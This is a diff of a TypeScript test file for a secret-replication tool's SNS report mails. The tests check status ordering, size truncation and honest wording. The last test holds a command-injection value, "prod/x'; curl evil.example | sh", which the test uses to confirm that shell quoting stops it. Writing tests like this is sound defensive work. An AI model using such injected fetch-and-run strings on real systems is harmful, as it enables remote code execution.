@@ -9,7 +9,7 @@ const STATUSES = ['failed', 'blocked', 'drifted', 'deferred', 'healed', 'in-sync
 /** @see https://docs.aws.amazon.com/sns/latest/api/API_Publish.html */
 const SNS_LIMIT = 262_144;
 
-test('a mail leads with the numbers, then what is worst, why, where, and what to do', () => {
+test('a mail begins with the numbers, then the worst, with reason, place and next step', () => {
   const partner = { target: 'partner', region: 'eu-central-1', account: '222233334444', name: 'shared/db' };
   const said = [
     row({ status: 'in-sync' }),
@@ -48,7 +48,7 @@ To look closer, without a write:
 `);
 });
 
-/** The kind of fault: a message that says "done" of what was not done. */
+/** The kind: a message that says "done" of an action that was not done. */
 const TENSES = [
   { mode: 'audit', status: 'drifted', said: 'a heal would: put' },
   { mode: 'dry-run', status: 'drifted', said: 'a heal would: put' },
@@ -59,19 +59,19 @@ const TENSES = [
   { mode: 'reconcile', status: 'blocked', said: 'done: put' },
 ] as const;
 
-test.each(TENSES)('of a row that is $status in mode $mode a mail says "$said"', ({ mode, status, said }) => {
+test.each(TENSES)('for a row that is $status in mode $mode a mail says "$said"', ({ mode, status, said }) => {
   const { text } = messageOf(report([row({ status, drift: ['stale'], actions: ['put'] })], { mode }));
   expect(text.match(/^ {2}(done|a heal would): put$/m)?.[0]).toBe(`  ${said}`);
 });
 
-test('a mail of a run that was held back asks for a person, for each replica that it left', () => {
+test('a mail of a held run asks for a person, for each replica that was left', () => {
   const held = 'AWSCURRENT of 60 of 90 replicas would be replaced; look at them by an audit';
   const { text } = messageOf(report(rows(60, { status: 'deferred', reason: held }), { mode: 'reconcile', held }));
   expect(text).toContain('nothing goes on until a person has looked');
   expect(text).not.toContain('nothing to do');
 });
 
-test('sections come in the order in which they matter, and the subject counts them in the same', () => {
+test('sections come in order of importance, and the subject counts them in the same order', () => {
   const { subject, text } = messageOf(report(STATUSES.toReversed().map((status) => row({ status }))));
   expect([...text.matchAll(/^([A-Z, ]+): 1 replica$/gm)].map(([, title]) => title)).toEqual([
     'FAILED',
@@ -83,7 +83,7 @@ test('sections come in the order in which they matter, and the subject counts th
   expect(subject).toBe('Lockstep us-east-1: 1 failed, 1 blocked, 1 drifted, 1 deferred, 1 healed of 6 replicas');
 });
 
-test('attributes let filters see the worst status, who started the run, and how many are left', () => {
+test('attributes have the worst status, the trigger and the numbers, to filter on', () => {
   const attributesOf = (...statuses: ReplicaReport['status'][]) =>
     messageOf(
       report(
@@ -109,7 +109,7 @@ test('attributes let filters see the worst status, who started the run, and how 
   expect(attributesOf('drifted', 'failed')).toMatchObject({ status: 'failed', left: 1, failed: 1 });
 });
 
-test('only a run that left nothing says "all in sync"', () => {
+test('only a run that left nothing open says "all in sync"', () => {
   expect(messageOf(report(rows(3))).subject).toBe('Lockstep us-east-1: all in sync, 3 replicas');
   for (const status of ['failed', 'blocked', 'drifted', 'deferred'] as const) {
     const { subject, text } = messageOf(report([row(), row({ status })]));
@@ -117,7 +117,7 @@ test('only a run that left nothing says "all in sync"', () => {
   }
 });
 
-test('a function of the account is named for the closer look, with a command that a shell takes', () => {
+test('a mail of the function has a command for a closer look, ready for a shell', () => {
   const { text } = renderMessage(report([row({ status: 'failed' })]), { functionName: 'lockstep-reconciler' });
   expect(text).toContain(`aws lambda invoke --function-name lockstep-reconciler --region us-east-1 \\
     --cli-binary-format raw-in-base64-out --payload '{"mode":"audit","secrets":["prod/db"]}' /dev/stdout`);
@@ -127,26 +127,23 @@ test.each([
   ['long names', 'x'],
   ['names that JSON escapes twice', '"\\'],
   ['names of many bytes', '\u{1F511}'],
-])(
-  '20,000 drifted replicas with %s stay under what SNS takes, and both renderings say that they were cut',
-  (_, unit) => {
-    const long = (at: number): string => `${at}/${unit.repeat(500)}`.slice(0, 512);
-    const many = Array.from({ length: 20_000 }, (_, at) =>
-      row({ secret: long(at), name: long(at), status: 'drifted', drift: ['stale'], reason: long(at % 300) }),
-    );
-    const message = messageOf(report(many));
-    expect(bytesSent(message)).toBeLessThan(SNS_LIMIT);
-    expect(bytesSent(message)).toBeGreaterThan(SNS_LIMIT / 3);
-    expect(message.subject).toBe('Lockstep us-east-1: 20000 drifted of 20000 replicas');
-    expect(message.text).toMatch(/left out for size; look closer with `lockstep audit`\.\n$/);
-    const json = JSON.parse(message.json);
-    expect(json.summary.drifted).toBe(20_000);
-    expect(json.cut).toBe(`${20_000 - json.replicas.length} of 20000 replicas left out for size`);
-    expect(json.replicas.length).toBeGreaterThan(10);
-  },
-);
+])('20,000 drifted replicas with %s stay within SNS’s limit, and both renderings say that they were cut', (_, unit) => {
+  const long = (at: number): string => `${at}/${unit.repeat(500)}`.slice(0, 512);
+  const many = Array.from({ length: 20_000 }, (_, at) =>
+    row({ secret: long(at), name: long(at), status: 'drifted', drift: ['stale'], reason: long(at % 300) }),
+  );
+  const message = messageOf(report(many));
+  expect(bytesSent(message)).toBeLessThan(SNS_LIMIT);
+  expect(bytesSent(message)).toBeGreaterThan(SNS_LIMIT / 3);
+  expect(message.subject).toBe('Lockstep us-east-1: 20000 drifted of 20000 replicas');
+  expect(message.text).toMatch(/left out for size; look closer with `lockstep audit`\.\n$/);
+  const json = JSON.parse(message.json);
+  expect(json.summary.drifted).toBe(20_000);
+  expect(json.cut).toBe(`${20_000 - json.replicas.length} of 20000 replicas left out for size`);
+  expect(json.replicas.length).toBeGreaterThan(10);
+});
 
-test('a report that is too long keeps what is wrong and leaves out what is in sync', () => {
+test('a report that is too long keeps what is wrong and omits what is in sync', () => {
   const { json } = messageOf(report([...rows(5_000), ...rows(3, { status: 'failed' })]));
   expect(JSON.parse(json)).toMatchObject({
     replicas: [{ status: 'failed' }, { status: 'failed' }, { status: 'failed' }],
@@ -154,7 +151,7 @@ test('a report that is too long keeps what is wrong and leaves out what is in sy
   });
 });
 
-test('whatever the names and reasons are, subject and mail are printable ASCII and nothing in them is forged', () => {
+test('whatever the names and reasons are, subject and mail are printable ASCII and cannot be forged', () => {
   const word = fc.string({ unit: 'binary', maxLength: 60 });
   const any = fc.record({ secret: word, name: word, target: word, reason: word, status: fc.constantFrom(...STATUSES) });
   fc.assert(
@@ -170,7 +167,7 @@ test('whatever the names and reasons are, subject and mail are printable ASCII a
   );
 });
 
-test('what is to be pasted into a shell cannot say more than it shows', () => {
+test('a command to paste into a shell cannot run more than it shows', () => {
   const secret = "prod/x'; curl evil.example | sh; '";
   const { text } = messageOf(report([row({ secret, status: 'failed' })]));
   expect(text).toContain(`--secret 'prod/x'\\''; curl evil.example | sh; '\\'''`);
